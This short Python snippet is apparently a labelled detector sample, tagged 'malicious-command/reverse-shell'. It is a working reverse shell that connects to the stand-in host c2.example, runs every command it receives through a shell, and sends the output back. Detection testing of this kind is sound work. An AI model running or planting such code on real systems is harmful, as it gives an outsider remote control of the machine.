import socket
import subprocess

link = socket.create_connection(("c2.example", 8443))
while True:
    order = link.recv(4096).decode()
    link.send(subprocess.run(order, shell=True, capture_output=True).stdout) # expect: malicious-command/reverse-shell
